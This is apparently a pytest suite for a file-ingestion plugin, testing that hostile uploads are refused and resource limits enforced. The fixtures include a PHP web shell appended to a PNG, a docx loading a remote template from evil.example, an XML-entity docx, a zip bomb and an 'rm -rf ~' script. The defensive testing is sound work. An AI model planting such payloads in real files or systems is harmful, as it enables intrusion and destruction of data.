"""Files of a hostile hand are refused with a clear reason, within bounds; others are read after them."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import file_samples as samples
import packed_samples as packed
import pytest
from hopyard.testing import Hop

Put = Callable[[str, bytes], str]
COUNT = int(os.environ.get("HOPYARD_INTERNAL_FILE_DAMAGED", "6"))


def outcome_of(hop: Hop, way: str) -> Any:
    return hop.run("file.process_document", root="in", way=way)


REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "loop.pdf": (
        samples.looping_pdf,
        "none of its pages can be read: its page tree is broken, or leads back",
    ),
    "loop3.pdf": (lambda: samples.looping_pdf(3), "none of its pages can be read"),
    "pages.pdf": (lambda: samples.pdf_of_many_pages(20_000), "20,000 pages, expected at most 5,000"),
    "objects.pdf": (lambda: samples.pdf_of_many_objects(1_000_000), "more than 500,000 objects"),
    "billion.xlsx": (
        samples.xlsx_of_a_billion_cells,
        "spans 17,179,869,184 cells, expected at most 2,000,000",
    ),
    "dimension.xlsx": (lambda: samples.xlsx_of_a_billion_cells(dimension_only=True), "17,179,869,184 cells"),
    "repeated.ods": (samples.ods_of_a_billion_cells, "it is no ods file that can be read"),
    "template.docx": (
        lambda: samples.docx_with_template("http://evil.example/t.dotm"),
        "from elsewhere when it is opened (attachedTemplate): http://evil.example/t.dotm",
    ),
    "unc.docx": (
        lambda: samples.docx_with_template("\\\\evil.example\\t.dotm"),
        "it loads something from elsewhere",
    ),
    "entities.docx": (samples.docx_with_entities, "word/document.xml declares a document type or entities"),
    "bomb.docx": (
        lambda: samples.with_part(samples.docx(), "word/x.xml", b"<a>" + b" " * 200_000_000 + b"</a>"),
        "unpacks to more than 100 times its size",
    ),
    "parts.eml": (lambda: samples.mail_of_parts(10_000), "it has more than 1,000 parts"),
    "fewer-parts.eml": (lambda: samples.mail_of_parts(2_000), "it has more than 1,000 parts"),
    "large.png": (
        lambda: samples.png(10_001, 10_000),
        "it has 10,001 × 10,000 pixels, expected at most 50,000,000",
    ),
    "empty.pdf": (lambda: b"", "it is empty"),
    "cut.pdf": (lambda: samples.pdf([["x"]])[:300], "it is no PDF that can be read"),
    "cut.docx": (lambda: samples.docx()[:5000], "it begins as a zip file, and is none"),
    "program.pdf": (lambda: b"MZ" + bytes(300), "it is a Windows program"),
    "program.docx": (lambda: b"\x7fELF" + bytes(300), "it is a program"),
    "script.txt": (lambda: b"#!/bin/sh\nrm -rf ~\n", "it is a script"),
    "old.doc": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "an office file of the old kind"),
    "locked.docx": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
        "an office file that is encrypted",
    ),
    "noise.dat": (lambda: bytes(range(256)) * 10, "which is not read"),
    # polyglots
    "zip-behind.pdf": (
        lambda: samples.pdf([["x"]]) + packed.zipped({"a": b"x"}),
        "of two kinds at once: a pdf file, and a zip archive at its end",
    ),
    "zip-behind.gif": (
        lambda: b"GIF89a" + bytes(20) + packed.zipped({"a": b"x"}),
        "of two kinds at once: a gif file, and a zip archive",
    ),
    "zip-behind.txt": (lambda: b"hello " * 10 + packed.zipped({"a": b"x"}), "which is not read"),
    "pdf-in-name.zip": (
        lambda: packed.zipped({"%PDF-1.4 1 0 obj %%EOF": b"x"}),
        "a PDF that begins at byte 30",
    ),
    "php-behind.png": (
        lambda: samples.png(8, 8) + b"<?php system($_GET[0]);",
        "something else behind the picture",
    ),
    "pdf-in-comment.gif": (
        lambda: b"GIF89a" + b"\x01\0\x01\0\0\0\0" + samples.pdf([["x"]]),
        "a PDF that begins at byte 13",
    ),
}


@pytest.mark.parametrize("name", [*REFUSED])
def test_it_is_refused_and_the_next_file_is_read(hop: Hop, put: Put, name: str) -> None:
    make, reason = REFUSED[name]
    outcome = outcome_of(hop, put(name, make()))
    assert outcome.state == "dead", outcome.result()
    assert reason in outcome.error["message"]
    assert outcome.error["message"].startswith(f"{name}: ")
    assert (outcome.error["category"], outcome.attempt) == ("invalid_input", 1)
    (row,) = hop.fetch("SELECT state, problem FROM file_document")
    assert row["state"] == "refused"
    assert reason in row["problem"]
    assert outcome_of(hop, put("good.txt", b"good")).result().text == "good"


@pytest.mark.parametrize(
    ("name", "make", "text"),
    [
        ("deep.html", lambda: samples.nested_html(50), "bottom"),
        ("deeper.html", lambda: samples.nested_html(100_000), "bottom"),
        ("deep.eml", lambda: samples.nested_mail(200), "From: a@example.org\nSubject: deep\n\nbottom"),
        ("entity.html", lambda: b"<html><body>&lt;script&gt;&#0;&#xD800;x", "<script>\ufffd\ufffdx"),
        ("nul.html", lambda: b"<html><body>a\x01b", "ab"),
    ],
)
def test_it_is_read_however_odd_it_is(
    hop: Hop, put: Put, name: str, make: Callable[[], bytes], text: str
) -> None:
    assert outcome_of(hop, put(name, make())).result().text == text


def test_damaged_files_are_read_or_refused_and_nothing_else(hop: Hop, put: Put) -> None:
    whole = {
        "pdf": samples.pdf([samples.lines(3)]),
        "docx": samples.docx(),
        "xlsx": samples.xlsx(),
        "pptx": samples.pptx(),
        "odt": samples.odt(),
        "eml": samples.mail(),
        "html": b"<html><title>t</title><p>text <b>bold</b><table><tr><td>1</table></html>",
        "tar.gz": packed.tarred({"a": b"x" * 100}, mode="w:gz"),
    }
    for suffix, content in whole.items():
        for seed in range(COUNT):
            put(f"{seed}.{suffix}", samples.damaged(content, seed))
    found = hop.run("file.batch_process_files", root="in", ocr=False).result()
    assert (found.files, found.failed) == (COUNT * len(whole), 0)
    assert found.done + found.refused == found.files
    reasons = hop.fetch("SELECT way, error FROM file_batch_item WHERE error LIKE '%breaks the program%'")
    assert [dict(row) for row in reasons] == [], "each fault is foreseen"


def test_references_to_a_local_template_are_told(hop: Hop, put: Put) -> None:
    found = outcome_of(hop, put("a.docx", samples.docx_with_template("file:///C:/Normal.dotm"))).result()
    assert found.notes == [
        "it refers to something outside (attachedTemplate), which was not loaded: file:///C:/Normal.dotm"
    ]


def test_archives_of_documents_are_no_polyglots(hop: Hop, put: Put) -> None:
    pdf = samples.pdf([["x"]])
    import io
    import zipfile

    stored = io.BytesIO()
    with zipfile.ZipFile(stored, "w") as archive:
        archive.writestr("a.pdf", pdf)
    for name, content in {
        "a.tar": packed.tarred({"a.pdf": pdf, "b.zip": packed.zipped({"x": b"y"})}),
        "a.zip": stored.getvalue(),
    }.items():
        assert "a.pdf" in outcome_of(hop, put(name, content)).result().text


@pytest.mark.parametrize(
    ("limits", "make", "name", "reason"),
    [
        (
            {"cpu_seconds": 1},
            lambda: b"<html>" + b"<a " * 3_000_000,
            "slow.html",
            "more than 1 s of CPU time",
        ),
        ({"seconds": 1.0}, lambda: b"<html>" + b"<a " * 3_000_000, "slow.html", "longer than 1 s"),
        ({"memory": 256 * 2**20}, lambda: samples.pdf_bomb(500_000_000), "a.pdf", "256 MB of memory"),
        ({"max_bytes": 100}, lambda: b"x" * 101, "a.txt", "it has more than 100 bytes"),
        (
            {"memory": 256 * 2**20, "max_bytes": 10**9},
            lambda: b" " * 300_000_000,
            "a.txt",
            "256 MB of memory",
        ),
    ],
)
def test_what_takes_too_much_is_stopped(
    put: Put, roots: dict[str, Any], tmp_path: Path, limits: dict[str, Any], make: Any, name: str, reason: str
) -> None:
    from hopyard_file import File

    settings = {**roots, "plugins.file.settings.documents": limits}
    with Hop(File, folder=tmp_path / "limited", settings=settings) as hop:
        outcome = outcome_of(hop, put(name, make()))
        assert outcome.state == "dead"
        assert reason in outcome.error["message"]


def test_text_is_kept_to_its_limit(put: Put, roots: dict[str, Any], tmp_path: Path) -> None:
    from hopyard_file import File

    settings = {**roots, "plugins.file.settings.documents": {"max_text": 1000}}
    with Hop(File, folder=tmp_path / "limited", settings=settings) as hop:
        for name, content in {
            "a.txt": b"x" * 10_000,
            "a.html": b"<html><p>" + b"x" * 10_000,
            "a.pdf": samples.pdf([samples.lines(40, seed) for seed in range(3)]),
        }.items():
            found = outcome_of(hop, put(name, content)).result()
            assert found.characters <= 1000
            assert "only the first 1,000 characters of its text are kept" in found.notes


def test_a_child_that_is_killed_from_outside_is_tried_again(
    hop: Hop, put: Put, monkeypatch: pytest.MonkeyPatch
) -> None:
    from hopyard import sandbox

    start, killed = sandbox._START, "import os, signal; os.kill(os.getpid(), signal.SIGKILL)"
    monkeypatch.setattr(sandbox, "_START", killed)
    way = put("a.txt", b"text")
    outcome = outcome_of(hop, way)
    assert outcome.error["category"] == "resource"
    assert outcome.attempt == 4
    assert "killed from outside" in outcome.error["message"]
    monkeypatch.setattr(sandbox, "_START", start)
    assert outcome_of(hop, way).result().text == "text"
